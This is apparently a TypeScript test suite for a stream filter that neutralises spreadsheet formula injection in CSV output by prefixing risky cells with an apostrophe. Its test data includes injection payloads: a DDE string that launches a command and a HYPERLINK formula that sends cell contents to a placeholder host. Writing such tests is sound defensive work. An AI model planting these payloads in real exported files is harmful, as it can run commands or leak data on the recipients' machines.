import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { expect } from 'chai';
import fc from 'fast-check';
import { CsvFormulaGuard } from '../../../../src/records/formats/csv-formula-guard.js';

describe('CsvFormulaGuard', () => {
  const FORMULAS = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    '+1+1',
    '-1+1',
    '-2+3+cmd|x',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\0=1+1',
    '-',
    '+',
    '--1',
    '+49 30 123456',
    '-1.5.2',
    '-1e',
    `-${'1'.repeat(70)}`,
  ];
  const HARMLESS = [
    '',
    '-1',
    '-1.5',
    '+1',
    '-1,5',
    '-.5',
    '-1.',
    '+1.5e-10',
    '-1E6',
    '2026-11-21',
    '12:30',
    'a=b',
    ' =1',
    "'=1",
    'said "=1"',
    'a,=b',
    'a\n=b',
    '1-1',
    'é',
  ];

  for (const cell of FORMULAS) {
    it(`STR-05: puts an apostrophe before ${JSON.stringify(cell)}`, async () => {
      expect(await guardedRows([['id', cell, 'last'], [cell]])).to.deep.equal([
        ['id', `'${cell}`, 'last'],
        [`'${cell}`],
      ]);
    });
  }

  for (const cell of HARMLESS) {
    it(`STR-05: leaves ${JSON.stringify(cell)} unchanged`, async () => {
      const rows = [
        ['id', cell, 'last'],
        [cell, 'x'],
      ];
      expect(await guardedRows(rows)).to.deep.equal(rows);
    });
  }

  const cell = fc.oneof(
    fc.constantFrom(...FORMULAS, ...HARMLESS),
    fc.string({ unit: fc.constantFrom('=', '-', '+', '1', '"', ',', ';', '\t', '\r', '\n', ' ', 'a', 'ü') }),
  );
  const table = fc
    .integer({ min: 1, max: 4 })
    .chain((columns) =>
      fc.array(fc.array(cell, { minLength: columns, maxLength: columns }), { maxLength: 6 }),
    );

  it('STR-05: changes exactly the cells that a spreadsheet would read as formulas, however chunks are split', async () => {
    await fc.assert(
      fc.asyncProperty(
        table,
        fc.constantFrom(...DELIMITERS),
        fc.constantFrom('\n', '\r\n'),
        fc.boolean(),
        fc.integer({ min: 1, max: 9 }),
        async (rows, [name, delimiter], lineEnd, isQuoted, chunkBytes) => {
          const options = {
            delimiter,
            record_delimiter: lineEnd,
            quoted: isQuoted,
            quoted_match: /[\r\n\t,;"]/,
          };
          const csv = stringify(rows, options);
          const guarded = String(await guardOf(csv, name, chunkBytes));

          const expected = rows.map((cells) => cells.map((text) => (isRisky(text) ? `'${text}` : text)));
          expect(guarded).to.equal(stringify(expected, { ...options, quoted_match: QUOTED_AS_BEFORE }));
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('handles a byte order mark and a missing final line break', async () => {
    for (const chunkBytes of [1, 2, 100]) {
      expect(String(await guardOf('\uFEFF=1,-2\n-', undefined, chunkBytes))).to.equal("\uFEFF'=1,-2\n'-");
      expect(String(await guardOf('\uFEFF"=1"', undefined, chunkBytes))).to.equal('\uFEFF"\'=1"');
      expect(String(await guardOf('a,\r\n,-1', undefined, chunkBytes))).to.equal('a,\r\n,-1');
    }
  });

  it('STR-05: treats a lone carriage return as a line break, as spreadsheets do', async () => {
    for (const chunkBytes of [1, 2, 100]) {
      const guarded = String(await guardOf('d\r=1+1,"a\r=1"\r-1\r+a,b\r\n', undefined, chunkBytes));
      expect(guarded).to.equal('d\r\'=1+1,"a\r=1"\r-1\r\'+a,b\r\n');
    }
  });

  it('passes on large chunks and guards long cells', async () => {
    const long = `"${'x'.repeat(300_000)}"`;
    const csv = `id,note\n1,${long}\n2,-${'y'.repeat(300_000)}\n`;
    expect(String(await guardOf(csv, undefined, 65_536))).to.equal(csv.replace(',-y', ",'-y"));
  });
});

const DELIMITERS = [
  [undefined, ','],
  ['tab', '\t'],
  [';', ';'],
] as const;

/** The writer quotes a cell by its text without the apostrophe, which needs no quotes. */
const QUOTED_AS_BEFORE = /[\r\n\t,;"]/;

/** The same rule, written independently. */
function isRisky(text: string): boolean {
  if (!/^[=+\-@\t\r\0]/.test(text)) return false;
  const isNumber =
    text.length <= 64 &&
    !/\s/.test(text) &&
    /^[+-][\d.,]/.test(text) &&
    !Number.isNaN(Number(text.replace(',', '.')));
  return !(isNumber && /\d/.test(text));
}

async function guardOf(
  csv: string,
  name: (typeof DELIMITERS)[number][0],
  chunkBytes: number,
): Promise<Buffer> {
  const bytes = Buffer.from(csv);
  const chunks: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += chunkBytes) chunks.push(bytes.subarray(at, at + chunkBytes));
  return buffer(Readable.from(chunks, { objectMode: false }).pipe(new CsvFormulaGuard(name)));
}

async function guardedRows(rows: readonly (readonly string[])[]): Promise<string[][]> {
  const csv = stringify(rows as string[][], { quoted_match: /[\r\t\0]/ });
  return parse(await guardOf(csv, undefined, 5), { relax_column_count: true });
}
